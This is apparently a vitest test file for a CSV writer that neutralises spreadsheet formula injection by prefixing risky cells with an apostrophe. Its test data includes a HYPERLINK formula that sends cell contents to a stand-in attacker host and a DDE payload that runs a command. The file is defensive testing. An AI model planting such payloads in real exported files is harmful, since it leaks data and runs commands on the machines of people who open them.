import { expect, test } from 'vitest'
import { unguardedCell, writeCsv } from './csv.ts'

const dangerous = [
  '=HYPERLINK("http://evil.example?"&A1,"Results")',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-2+3+cmd|x',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tplain',
  '  =1+1',
  "'=1+1",
  "''=1+1",
  " '=1+1",
  '＝1+1',
  '+91 98765 43210',
  '-5-3',
  '-',
]
const harmless = ['', 'Asha', '-5', '-5.25', '21CS001', "O'Brien", "'twas", 'a=b', 'a@b.in', '12']

test.each(dangerous)('%j is no formula any more, and comes back as it was', (cell) => {
  const [written = ''] = cellsOf(writeCsv([[cell]]))
  expect(written).toBe(`'${cell}`)
  expect(unguardedCell(written)).toBe(cell)
})

test.each(harmless)('%j is written as it is', (cell) => {
  const [written] = cellsOf(writeCsv([[cell]]))
  expect([written, unguardedCell(cell)]).toEqual([cell, cell])
})

test('cells with separators, quotation marks and line breaks stay one cell', () => {
  expect(
    writeCsv([
      ['Name', 'Why'],
      ['S, "B"', 'a;b\nc'],
    ]),
  ).toBe('\uFEFFName,Why\r\n"S, ""B""","a;b\nc"\r\n')
})

/** The one cell of a file, taken out of its quotation marks. */
function cellsOf(csv: string) {
  const line = csv.slice(1, -2)
  return [line.startsWith('"') ? line.slice(1, -1).replaceAll('""', '"') : line]
}
